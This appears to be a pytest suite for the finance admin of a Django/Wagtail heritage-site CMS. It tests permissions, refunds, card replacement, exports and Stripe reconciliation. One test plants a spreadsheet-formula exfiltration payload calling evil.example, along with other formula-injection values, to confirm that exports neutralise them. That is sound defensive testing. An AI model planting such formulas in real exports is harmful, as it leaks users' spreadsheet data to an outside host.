"""The Finance area of the admin: who may see, who may refund or move value, and the exports."""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth.models import Group
from wagtail.models import ModelLogEntry

from heritage_cms.cards.models import Card, CardReplacement, Transfer
from heritage_cms.core.factories import UserFactory
from heritage_cms.core.money import VND
from heritage_cms.core.roles import FINANCE
from heritage_cms.payments.models import Payment, Refund
from heritage_cms.sites.factories import SiteFactory

from .conftest import deliver, new_card, start_top_up

pytestmark = pytest.mark.django_db


def paid(client, sandbox, card, amount=300_000) -> Payment:
    payment = start_top_up(card, amount)
    sandbox.pay(payment.stripe_session_id)
    deliver(client, sandbox)
    payment.refresh_from_db()
    return payment


def rows(response) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode()
    assert body.startswith("\ufeff")  # spreadsheet programs then read the Vietnamese
    return list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))


def refused(response) -> bool:
    """Wagtail's answer to staff without the permission: back to the dashboard, with a
    message."""
    return response.status_code == 302 and response["Location"] == "/admin/"


def test_the_finance_group_is_ensured_with_its_permissions(db):
    group = Group.objects.get(name=FINANCE)
    codenames = set(group.permissions.values_list("codename", flat=True))
    assert {"view_finance", "refund_payment", "move_card_value", "access_admin"} <= codenames


def test_only_finance_staff_see_finance_or_refund_or_move_value(
    client, sandbox, card, curator, moderator, translator, finance_user
):
    payment = paid(client, sandbox, card)
    pages = [
        "/admin/finance/",
        "/admin/finance/payments/",
        "/admin/finance/payments/?export=csv",
        "/admin/finance/refunds/",
        "/admin/finance/refunds/?export=xlsx",
        f"/admin/finance/payments/{payment.pk}/",
        f"/admin/finance/cards/{card.pk}/",
        "/admin/finance/reconciliation/",
        "/admin/finance/reconciliation/?export=csv",
        "/admin/finance/?export=xlsx",
    ]
    posts = [
        (f"/admin/finance/payments/{payment.pk}/", {"amount": "300000", "reason": "x"}),
        (f"/admin/finance/cards/{card.pk}/", {"action": "block", "block-reason": "x"}),
        (
            f"/admin/finance/cards/{card.pk}/",
            {
                "action": "replace",
                "replace-number": "1",
                "replace-uid": "AA",
                "replace-reason": "x",
            },
        ),
        (f"/admin/finance/cards/{card.pk}/", {"action": "refund_balance", "refund-reason": "x"}),
    ]
    for user in (curator, moderator, translator):
        client.force_login(user)
        assert "/admin/finance/" not in client.get("/admin/").content.decode()
        for url in pages:
            assert refused(client.get(url)), url
        for url, data in posts:
            assert refused(client.post(url, data)), url
    client.logout()
    assert client.get("/admin/finance/").status_code == 302  # to the login page

    # Someone who may read the reports but not move money.
    reader = UserFactory(is_staff=True)
    reader.user_permissions.add(
        *Group.objects.get(name=FINANCE).permissions.exclude(
            codename__in=["refund_payment", "move_card_value"]
        )
    )
    client.force_login(reader)
    assert all(client.get(url).status_code == 200 for url in pages)
    assert all(refused(client.post(url, data)) for url, data in posts)

    card.refresh_from_db()
    assert card.status == Card.Status.ACTIVE and not Refund.objects.exists()
    client.force_login(finance_user)
    assert "/admin/finance/" in client.get("/admin/").content.decode()
    assert all(client.get(url).status_code == 200 for url in pages)


def test_finance_refunds_from_the_admin_and_the_audit_says_who(client, sandbox, card, finance_user):
    payment = paid(client, sandbox, card)
    client.force_login(finance_user)
    response = client.post(
        f"/admin/finance/payments/{payment.pk}/", {"amount": "100000", "reason": "Rain"}
    )
    assert response.status_code == 302
    refund = Refund.objects.get()
    assert refund.status == Refund.Status.SUCCEEDED and refund.requested_by == finance_user
    entry = ModelLogEntry.objects.get(action="heritage.payment.refund")
    assert entry.user == finance_user and entry.data["reason"] == "Rain"
    too_much = client.post(
        f"/admin/finance/payments/{payment.pk}/", {"amount": "900000", "reason": "Too much"}
    )
    assert too_much.status_code == 200 and Refund.objects.count() == 1


def test_finance_replaces_a_lost_card_from_the_admin(client, sandbox, card, finance_user):
    paid(client, sandbox, card, 200_000)
    client.force_login(finance_user)
    url = f"/admin/finance/cards/{card.pk}/"
    client.post(url, {"action": "block", "block-reason": "Stolen"})
    card.refresh_from_db()
    assert card.status == Card.Status.BLOCKED
    response = client.post(
        url,
        {
            "action": "replace",
            "replace-number": "9704000000005555",
            "replace-uid": "04BB00005555",
            "replace-reason": "Stolen on the bus",
        },
        follow=True,
    )
    new = Card.objects.get(number="9704000000005555")
    assert "access code, shown once" in response.content.decode()
    new.account.refresh_from_db()
    assert new.balance == VND(200_000)
    assert CardReplacement.objects.get().done_by == finance_user
    assert Transfer.objects.filter(kind="card_replacement").count() == 1
    log = ModelLogEntry.objects.get(action="heritage.card.replaced")
    assert log.user == finance_user and log.data["new_card"] == new.number


def test_csv_exports_of_revenue_payments_and_reconciliation(client, sandbox, card, finance_user):
    from django.utils import timezone

    from heritage_cms.cards.ingest import TapReport, ingest
    from heritage_cms.cards.models import Gate

    payment = paid(client, sandbox, card, 500_000)
    gate = Gate.objects.create(
        name="Ngọ Môn", site=SiteFactory(code="dai-noi"), fare=VND(200_000), token_hash="g"
    )
    ingest(gate, [TapReport(1, card.number, timezone.now(), "entered", fare=200_000)])
    client.force_login(finance_user)
    today = timezone.localdate().isoformat()
    revenue = rows(client.get(f"/admin/finance/?from={today}&to={today}&export=csv"))
    assert revenue[0][:3] == ["day", "site", "fares_vnd"]
    assert revenue[1][:3] == [today, "dai-noi", "200000"]
    payments = rows(client.get("/admin/finance/payments/?export=csv"))
    assert payments[1][1] == str(payment.reference) and payments[1][5] == "500000"

    # A payment Stripe knows but the ledger does not (someone else's session) is flagged.
    session = sandbox.create_session(
        {
            "mode": "payment",
            "success_url": "https://elsewhere.example/",
            "line_items": [{"price_data": {"currency": "vnd", "unit_amount": "70000"}}],
        }
    )
    sandbox.pay(session["id"])
    deliver(client, sandbox)
    report = rows(client.get("/admin/finance/reconciliation/?export=csv"))
    statuses = {(r[2], r[4], r[7]) for r in report[1:]}
    assert ("charge", "500000", "ok") in statuses
    assert ("charge", "70000", "missing in ledger") in statuses
    html = client.get("/admin/finance/reconciliation/").content.decode()
    assert "1 item to look at" in html


def test_reconciliation_agrees_after_payments_refunds_and_a_payout(
    client, sandbox, card, finance_user
):
    from heritage_cms.finance import reports
    from heritage_cms.payments import refunds

    payment = paid(client, sandbox, card, 400_000)
    refunds.refund_payment(payment, 150_000, "Partial")
    deliver(client, sandbox)
    sandbox.create_payout({"amount": "200000"})
    result = reports.reconciliation()
    assert result["balanced"], result["problems"]
    assert result["ledger"] == {"collected": 400_000, "refunded": 150_000, "net": 250_000}
    assert result["stripe"]["payout"] == -200_000
    client.force_login(finance_user)
    assert (
        "Stripe and the ledger agree"
        in client.get("/admin/finance/reconciliation/").content.decode()
    )


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'


def _cells(response) -> list[str]:
    return [cell for row in rows(response)[1:] for cell in row]


def _xlsx_cells(response) -> list:
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    return [cell.value for row in sheet.iter_rows(min_row=2) for cell in row]


def test_every_finance_export_neutralises_formulas(client, sandbox, card, finance_user):
    """One hostile value per listing or report: it comes out as text, never as a formula."""
    from django.utils import timezone

    from heritage_cms.cards.ingest import TapReport, ingest
    from heritage_cms.cards.models import Gate

    payment = paid(client, sandbox, card, 500_000)
    Payment.objects.filter(pk=payment.pk).update(stripe_session_id="=1+1")
    Refund.objects.create(
        payment=payment, amount=VND(1_000), reason=HYPERLINK, status=Refund.Status.FAILED
    )
    gate = Gate.objects.create(
        name="x", site=SiteFactory(code="@SUM(1)"), fare=VND(10_000), token_hash="g"
    )
    ingest(gate, [TapReport(1, card.number, timezone.now(), "entered", fare=10_000)])
    for bt in sandbox.balance_transactions.values():
        if bt["type"] == "charge":
            bt["type"] = "-2+3"
    client.force_login(finance_user)

    assert "'=1+1" in _cells(client.get("/admin/finance/payments/?export=csv"))
    assert "'=1+1" in _xlsx_cells(client.get("/admin/finance/payments/?export=xlsx"))
    assert "'" + HYPERLINK in _cells(client.get("/admin/finance/refunds/?export=csv"))
    assert "'" + HYPERLINK in _xlsx_cells(client.get("/admin/finance/refunds/?export=xlsx"))
    today = timezone.localdate().isoformat()
    revenue = f"/admin/finance/?from={today}&to={today}&export="
    assert "'@SUM(1)" in _cells(client.get(revenue + "csv"))
    assert "'@SUM(1)" in _xlsx_cells(client.get(revenue + "xlsx"))
    assert "'-2+3" in _cells(client.get("/admin/finance/reconciliation/?export=csv"))
    assert "'-2+3" in _xlsx_cells(client.get("/admin/finance/reconciliation/?export=xlsx"))


def test_old_csv_links_lead_to_the_export(client, finance_user):
    client.force_login(finance_user)
    period = "from=2026-01-01&to=2026-01-31"
    for before, after in [
        (
            "/admin/finance/payments/?status=paid&format=csv",
            "/admin/finance/payments/?status=paid&export=csv",
        ),
        (f"/admin/finance/?{period}&format=csv", f"/admin/finance/?{period}&export=csv"),
        ("/admin/finance/reconciliation/?format=csv", "/admin/finance/reconciliation/?export=csv"),
    ]:
        response = client.get(before)
        assert response.status_code == 302 and response["Location"] == after, before


def test_the_payment_listing_filters_and_links_to_the_refund_page(
    client, sandbox, card, finance_user
):
    payment = paid(client, sandbox, card, 300_000)
    other = paid(client, sandbox, new_card(), 200_000)
    Payment.objects.filter(pk=other.pk).update(over_cap=VND(50_000))
    client.force_login(finance_user)
    html = client.get("/admin/finance/payments/").content.decode()
    assert f"/admin/finance/payments/{payment.pk}/" in html
    assert f"/admin/finance/payments/{other.pk}/" in html
    assert "/admin/finance/payments/new/" not in html  # nobody adds payments by hand
    over_cap = client.get("/admin/finance/payments/?over_cap=true").content.decode()
    assert f"/admin/finance/payments/{other.pk}/" in over_cap
    assert f"/admin/finance/payments/{payment.pk}/" not in over_cap
    assert refused(client.get("/admin/finance/payments/new/"))
    assert refused(client.post(f"/admin/finance/payments/delete/{payment.pk}/"))
    assert Payment.objects.count() == 2


def test_the_finance_menu_is_unchanged_for_finance_staff(client, finance_user):
    client.force_login(finance_user)
    html = client.get("/admin/").content.decode()
    for url in ("/admin/finance/", "/admin/finance/payments/", "/admin/finance/reconciliation/"):
        assert url in html


def test_reconciliation_matches_a_refund_the_bank_sent_back(client, sandbox, card, finance_user):
    from heritage_cms.finance import reports
    from heritage_cms.payments import refunds

    payment = paid(client, sandbox, card, 400_000)
    refund = refunds.refund_payment(payment, 150_000, "Partial")
    deliver(client, sandbox)
    sandbox.fail_refund(refund.stripe_refund_id)
    before = {(r["type"], r["status"]) for r in reports.reconciliation()["rows"]}
    assert ("refund_failure", "missing in ledger") in before  # the webhook is not in yet
    deliver(client, sandbox)
    refund.refresh_from_db()
    assert refund.status == Refund.Status.FAILED and refund.reversal_id

    result = reports.reconciliation()
    assert result["balanced"], result["problems"]
    statuses = {
        (r["type"], r["stripe_amount"], r["ledger_amount"], r["status"]) for r in result["rows"]
    }
    assert ("refund", -150_000, -150_000, "ok") in statuses
    assert ("refund_failure", 150_000, 150_000, "ok") in statuses
    assert result["ledger"] == {"collected": 400_000, "refunded": 0, "net": 400_000}


def test_reconciliation_matches_a_refund_first_heard_of_as_failed(client, sandbox, card):
    """Refunded in Stripe's dashboard and sent back by the bank before any webhook came: the
    ledger never moved, Stripe's refund and failure cancel out."""
    from heritage_cms.finance import reports

    payment = paid(client, sandbox, card, 300_000)
    stripe_refund = sandbox.create_refund(
        {"payment_intent": payment.stripe_payment_intent_id, "amount": "50000"}
    )
    sandbox.outbox.clear()  # its "succeeded" events never reach us
    sandbox.fail_refund(stripe_refund["id"])
    deliver(client, sandbox)
    refund = Refund.objects.get()
    assert refund.status == Refund.Status.FAILED and refund.transfer_id is None

    result = reports.reconciliation()
    assert result["balanced"], result["problems"]
    mine = [r for r in result["rows"] if r["source"] == stripe_refund["id"]]
    assert sorted((r["type"], r["stripe_amount"], r["status"]) for r in mine) == [
        ("refund", -50_000, "ok"),
        ("refund_failure", 50_000, "ok"),
    ]


def test_reconciliation_matches_lost_disputes_and_flags_unknown_ones(
    client, sandbox, card, finance_user
):
    from heritage_cms.finance import reports

    lost = paid(client, sandbox, card, 300_000)
    won = paid(client, sandbox, card, 100_000)
    opened = sandbox.dispute(lost.stripe_payment_intent_id)
    other = sandbox.dispute(won.stripe_payment_intent_id)
    deliver(client, sandbox)
    sandbox.close_dispute(opened, won=False)
    sandbox.close_dispute(other, won=True)
    deliver(client, sandbox)
    lost.refresh_from_db()
    assert lost.dispute_transfer_id is not None

    result = reports.reconciliation()
    assert result["balanced"], result["problems"]
    disputes = [r for r in result["rows"] if r["type"] == "dispute"]
    assert [
        (r["source"], r["stripe_amount"], r["ledger_amount"], r["status"]) for r in disputes
    ] == [(opened["id"], -300_000, -300_000, "ok")]
    assert result["disputes"] == {"taken_back_ledger": 300_000, "taken_back_stripe": 300_000}

    # A dispute lost at Stripe whose webhooks never came: Stripe took money the ledger kept.
    third = paid(client, sandbox, card, 200_000)
    unknown = sandbox.dispute(third.stripe_payment_intent_id)
    sandbox.close_dispute(unknown, won=False)
    sandbox.outbox.clear()
    result = reports.reconciliation()
    assert not result["balanced"]
    assert [(r["source"], r["status"]) for r in result["problems"]] == [
        (unknown["id"], "missing in ledger")
    ]
    client.force_login(finance_user)
    assert "1 item to look at" in client.get("/admin/finance/reconciliation/").content.decode()
